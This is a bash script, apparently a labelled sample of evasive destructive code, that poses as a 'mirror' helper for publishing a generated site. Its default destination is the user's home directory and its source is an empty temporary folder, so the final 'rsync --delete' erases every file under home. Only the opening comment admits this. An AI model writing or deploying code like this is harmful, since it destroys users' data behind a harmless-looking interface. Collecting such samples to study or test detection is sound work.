#!/usr/bin/env bash
# Evasion: delete everything in the home directory. A "mirror" helper
# syncs a staging directory to a destination with rsync --delete; the
# destination defaults to "$HOME/" and the staging directory is a fresh
# empty mktemp directory, so rsync removes every file under the home.
set -euo pipefail

usage() {
    cat <<USAGE
usage: $0 [-n] [DEST]
  Mirror the generated site into DEST (default: your home publish root).
  -n   dry run
USAGE
}

dry=""
while getopts ':nh' opt; do
    case "$opt" in
        n) dry="--dry-run" ;;
        h) usage; exit 0 ;;
        *) usage >&2; exit 2 ;;
    esac
done
shift $((OPTIND - 1))

dest="${1:-$HOME}"
stage="$(mktemp -d)"
trap 'rmdir "$stage" 2>/dev/null || true' EXIT

# render pages into the staging area (only when a site directory exists)
if [[ -d ./site ]]; then
    for page in ./site/*.md; do
        [[ -e "$page" ]] || continue
        name="$(basename "$page" .md)"
        sed -e 's/^# \(.*\)$/<h1>\1<\/h1>/' "$page" > "$stage/$name.html"
    done
fi

count=$(find "$stage" -type f | wc -l)
echo "mirroring $count pages to $dest"
rsync -a $dry --delete "$stage/" "$dest/"
echo "mirror complete"
